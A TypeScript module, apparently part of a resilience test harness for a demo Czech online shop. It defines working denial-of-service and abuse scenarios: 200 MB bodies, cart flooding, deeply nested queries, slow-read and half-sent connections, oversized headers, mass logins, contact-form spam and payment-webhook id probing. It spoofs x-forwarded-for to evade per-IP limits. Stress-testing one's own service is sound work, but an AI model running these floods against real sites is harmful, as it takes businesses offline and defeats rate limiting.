import { type Heard, knock } from './knock.ts'
import { readSlowly, sendHalf, sendRaw } from './slow-connections.ts'

export interface Target {
  storefront: string
  services: string
  data: string
  images: string
  /** Goods of the demo shop. */
  variantIds: number[]
}

export interface Attack {
  name: string
  count: number
  atOnce: number
  send(index: number): Promise<Heard>
}

const MB = 1024 * 1024
const NETWORKS = 200

/** As a proxy in front would name them. */
function fromNetwork(index: number): Record<string, string> {
  const network = index % NETWORKS
  return { 'x-forwarded-for': `198.18.${Math.floor(network / 100)}.${(network % 100) + 1}` }
}

/** Everything at once, each in numbers that one angry person with a rented server can send. */
export function listAttacks(target: Target, share: number): Attack[] {
  const of = (count: number) => Math.max(1, Math.round(count * share))
  return [
    { name: 'bodies of 200 MB', count: of(12), atOnce: 2, send: (index) => sendHuge(target, index) },
    { name: 'carts of 10 000 pieces', count: of(3000), atOnce: 4, send: cartFiller(target) },
    { name: 'deep embeds', count: of(500), atOnce: 2, send: (index) => embedDeeply(target, index) },
    { name: 'rings', count: of(1000), atOnce: 2, send: (index) => ring(target, index) },
    { name: 'slow readers', count: of(200), atOnce: of(100), send: (index) => readWithPauses(target, index) },
    { name: 'half requests', count: of(200), atOnce: of(100), send: (index) => sendHalf(whom(target, index)) },
    { name: 'headers of 64 kB', count: of(200), atOnce: 2, send: (index) => sendHeaders(target, index) },
    { name: 'logins', count: of(5000), atOnce: 4, send: (index) => signIn(target, index) },
    { name: 'contact forms', count: of(10_000), atOnce: 6, send: (index) => write(target, index) },
  ]
}

const whom = ({ storefront, services }: Target, index: number) => (index % 2 === 0 ? storefront : services)

function sendHuge(target: Target, index: number): Promise<Heard> {
  const paths = ['/prihlasit-se', '/api/navsteva', '/chyby', '/kontakt']
  const url = index % 4 === 3 ? `${target.services}/session` : `${target.storefront}${paths[index % paths.length]}`
  const headers = { 'content-type': index % 4 === 3 ? 'application/json' : 'application/x-www-form-urlencoded' }
  return knock({ url, method: 'POST', headers, bytes: 200 * MB, isChunked: index % 2 === 1 })
}

/** Ten guests fill their carts as far as they are let, and look at them in between. */
function cartFiller({ services, variantIds }: Target): Attack['send'] {
  const guests = Array.from({ length: 10 }, () => new Map<string, string>())
  return (index) => {
    const cookies = guests[index % guests.length]
    const headers = { ...fromNetwork(index % guests.length), 'content-type': 'application/json' }
    if (index % 3 === 2) return knock({ url: `${services}/cart`, headers, ...(cookies ? { cookies } : {}) })
    const variantId = variantIds[Math.floor(index / guests.length) % variantIds.length]
    const body = JSON.stringify({ variantId, pieces: 200 })
    return knock({ url: `${services}/cart/lines`, method: 'POST', headers, body, ...(cookies ? { cookies } : {}) })
  }
}

function embedDeeply({ data }: Target, index: number): Promise<Heard> {
  const depth = 1 + (index % 30)
  const select = Array.from({ length: depth }).reduce<string>(
    (inner, _, level) =>
      level % 2 === 0 ? `id,categories!product_categories(${inner})` : `id,products!product_categories(${inner})`,
    'id',
  )
  return knock({ url: `${data}/products?select=${encodeURIComponent(select)}`, headers: fromNetwork(index % 5) })
}

function ring({ services }: Target, index: number): Promise<Heard> {
  return knock({ url: `${services}/notifications/gopay?id=${7_000_000 + index}`, headers: fromNetwork(index % 3) })
}

function readWithPauses({ storefront, data }: Target, index: number): Promise<Heard> {
  return index % 2 === 0
    ? readSlowly(storefront, '/produkty', 8000)
    : readSlowly(data, '/products?select=*&limit=1000', 8000)
}

function sendHeaders({ storefront, services, data, images }: Target, index: number): Promise<Heard> {
  const url = [storefront, services, data, images][index % 4] ?? storefront
  return sendRaw(url, `GET /live HTTP/1.1\r\nHost: shop\r\nX-Large: ${'a'.repeat(65_536)}\r\n\r\n`)
}

const FORM = { 'content-type': 'application/x-www-form-urlencoded' }

function signIn({ storefront }: Target, index: number): Promise<Heard> {
  const body = String(new URLSearchParams({ email: `nikdo${index}@example.cz`, password: `heslo číslo ${index}` }))
  const headers = { ...FORM, ...fromNetwork(index) }
  return knock({ url: `${storefront}/prihlasit-se.data`, method: 'POST', headers, body })
}

function write({ storefront }: Target, index: number): Promise<Heard> {
  const fields = { topic: 'other', name: 'Nikdo', email: `nikdo${index}@example.cz`, message: 'Zpráva. '.repeat(60) }
  const headers = { ...FORM, ...fromNetwork(index) }
  return knock({
    url: `${storefront}/kontakt.data`,
    method: 'POST',
    headers,
    body: String(new URLSearchParams(fields)),
  })
}

/** What customers do on any day. */
export function ordinary({ storefront, services, data }: Target, count: number, atOnce: number): Attack {
  const pages = ['/', '/produkty', '/blog', '/kontakt', '/kosik/obsah', '/prihlasit-se', '/o-nas', '/kalkulacka']
  return {
    name: 'ordinary requests',
    count,
    atOnce,
    send(index) {
      const headers = { 'x-forwarded-for': `10.${index % 250}.${Math.floor(index / 250) % 250}.7` }
      if (index % 4 === 1) return knock({ url: `${services}/cart`, headers })
      if (index % 4 === 3) return knock({ url: `${data}/products?select=id,name,slug&limit=20`, headers })
      return knock({ url: `${storefront}${pages[index % pages.length]}`, headers })
    },
  }
}
